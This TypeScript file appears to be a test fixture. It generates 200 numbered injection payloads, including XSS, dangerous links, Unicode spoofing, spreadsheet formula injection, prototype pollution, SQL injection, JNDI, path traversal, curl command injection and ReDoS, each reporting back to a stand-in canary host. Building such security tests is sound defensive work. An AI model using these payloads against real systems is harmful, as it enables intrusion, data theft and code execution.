/*
 * What a page may say of somebody to get at whoever reads it: 200 texts, each to be found again by its number. What
 * would run tells so at once, by asking for a page of the canary's, by a dialog, or by a mark on the window.
 */

export const canary = 'https://canary.example.com/';

/** What a script does that gets to run; `n` is its payload's number. */
const sing = (n: number): string => `window.canary=${n};fetch('${canary}${n}',{mode:'no-cors'});alert(${n})`;

type Make = (n: number) => string;

const markup: Make[] = [
  (n) => `<script>${sing(n)}</script>`,
  (n) => `<script src=${canary}${n}.js></script>`,
  (n) => `"><script>${sing(n)}</script>`,
  (n) => `</title></textarea></style><script>${sing(n)}</script>`,
  (n) => `<img src=x onerror="${sing(n)}">`,
  (n) => `<img src=${canary}${n}.png>`,
  (n) => `<svg onload="${sing(n)}"></svg>`,
  (n) => `<svg><script href="data:text/javascript,${encodeURIComponent(sing(n))}"/></svg>`,
  (n) => `<svg><animate onbegin="${sing(n)}" attributeName=x dur=1s>`,
  (n) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='${sing(n)}'/>#x"/></svg>`,
  (n) => `<math><mtext><img src=x onerror="${sing(n)}"></mtext></math>`,
  (n) => `<iframe srcdoc="<script>parent.${sing(n)}</script>"></iframe>`,
  (n) => `<iframe src="javascript:${sing(n)}"></iframe>`,
  (n) => `<object data="javascript:${sing(n)}"></object>`,
  (n) => `<embed src="${canary}${n}.swf">`,
  (n) => `<details open ontoggle="${sing(n)}">`,
  (n) => `<input autofocus onfocus="${sing(n)}">`,
  (n) => `<video><source onerror="${sing(n)}"></video>`,
  (n) => `<style>@import '${canary}${n}.css';*{background:url(${canary}${n}.gif)}</style>`,
  (n) => `<link rel=stylesheet href=${canary}${n}.css>`,
  (n) => `<meta http-equiv=refresh content="0;url=${canary}${n}">`,
  (n) => `<base href="${canary}${n}/">`,
  (n) => `<form action=${canary}${n}><button autofocus>Save lead</button></form>`,
  (n) => `<a href="javascript:${sing(n)}" style="position:fixed;inset:0">x</a>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${sing(n)}>">`,
  (n) => `<!--><img src=x onerror="${sing(n)}">-->`,
  (n) => `<template shadowrootmode=open><img src=x onerror="${sing(n)}"></template>`,
  (n) => `' onmouseover='${sing(n)}' autofocus tabindex=0 '`,
];

const encoded: Make[] = [
  (n) => `&lt;script&gt;${sing(n)}&lt;/script&gt;`,
  (n) => `\\u003cscript\\u003e${sing(n)}\\u003c/script\\u003e`,
  (n) => `%3Cscript%3E${encodeURIComponent(sing(n))}%3C/script%3E`,
  (n) => `＜script＞${sing(n)}＜/script＞`,
  (n) => `<scr\u0000ipt>${sing(n)}</scr\u0000ipt>`,
  (n) => `<ſcript>${sing(n)}</ſcript>`,
  (n) => `<IMG SRC=&#106;avascript:${sing(n)}>`,
  (n) => `{{constructor.constructor("${sing(n)}")()}}`,
  (n) => `\${${sing(n)}}`,
  (n) => `<%= ${sing(n)} %>`,
  (n) => `#{${sing(n)}}`,
];

const links: Make[] = [
  (n) => `javascript:${sing(n)}`,
  (n) => `JaVaScRiPt:${sing(n)}//https://www.linkedin.com/in/x`,
  (n) => `\u0001javascript:${sing(n)}`,
  (n) => `java\tscript:${sing(n)}`,
  (n) => `javascript://www.linkedin.com/in/x%0a${sing(n)}`,
  (n) => `data:text/html,<script>${sing(n)}</script>`,
  (n) => `data:text/html;base64,${btoa(`<script>${sing(n)}</script>`)}`,
  (n) => `vbscript:msgbox(${n})`,
  (n) => `blob:${canary}${n}`,
  (n) => `filesystem:${canary}${n}`,
  (n) => `view-source:${canary}${n}`,
  () => 'file:///etc/passwd',
  () => 'chrome://settings/resetProfileSettings',
  (n) => `intent://x#Intent;scheme=${n};end`,
  (n) => `https://www.linkedin.com@canary.example.com/in/${n}`,
  (n) => `https://www.linkedin.com\\@canary.example.com/in/${n}`,
  (n) => `https://xn--lnkedin-${n}.com/in/x`,
  (n) => `//canary.example.com/${n}`,
  (n) => `mailto:a${n}@x.example?bcc=evil@canary.example.com&body=x`,
  (n) => `tel:*21*${n}#`,
];

const unicode: Make[] = [
  (n) => `\u202Egpj.exe ${n}`,
  (n) => `\u2066\u2067 ${n} \u2069\u2069\u202C`,
  (n) => `Ann\u0000Lee ${n}`,
  (n) => `Ann \uD800 ${n}`,
  (n) => `A\u0300${'\u0301'.repeat(400)} ${n}`,
  (n) => `\uFEFF\u200B\u200D\u2060 ${n}`,
  (n) => `Аnn Lее ${n}`,
  (n) => `${'ﷺ'.repeat(300)} ${n}`,
  (n) => `👩‍👩‍👧‍👦`.repeat(100) + n,
  (n) => `Ann\r\nSet-Cookie: x=${n}`,
  (n) => `Ann\u2028\u2029${n}`,
  (n) => `\u0007\u001b[31m ${n}`,
];

const sheets: Make[] = [
  (n) => `=HYPERLINK("${canary}${n}","Ann")`,
  (n) => `+cmd|' /C calc'!A${n}`,
  (n) => `-2+3+cmd|' /C calc'!A${n}`,
  (n) => `@SUM(1+${n})*cmd|' /C calc'!A0`,
  (n) => `\t=1+${n}`,
  (n) => `\r=1+${n}`,
  (n) => `＝1+${n}`,
  (n) => ` =1+${n}`,
  (n) => `"=1+${n}","x`,
];

const machines: Make[] = [
  (n) => `{"__proto__":{"canary":${n}}}`,
  (n) => `__proto__[canary]=${n}`,
  (n) => `constructor.prototype.canary ${n}`,
  (n) => `'; DROP TABLE lead; -- ${n}`,
  (n) => `' OR ${n}=${n} --`,
  (n) => `{"$gt":"${n}"}`,
  (n) => `../../../../etc/passwd${n}`,
  (n) => `\${jndi:ldap://canary.example.com/${n}}`,
  (n) => `$(curl ${canary}${n})`,
  (n) => `; curl ${canary}${n} #`,
  (n) => `(a+)+$ ${'a'.repeat(60)}!${n}`,
  (n) => `${'A'.repeat(100_000)}${n}`,
  (n) => `${'<div>'.repeat(2_000)}${n}`,
  (n) => `outbox-grew ${n}`,
];

const makes = [...markup, ...encoded, ...links, ...unicode, ...sheets, ...machines];

/** The first is number 1. Each is made in turn until there are enough, every time of another number. */
export const payloads: readonly string[] = Array.from({ length: 200 }, (_, n) =>
  makes[n % makes.length]!(n + 1),
);
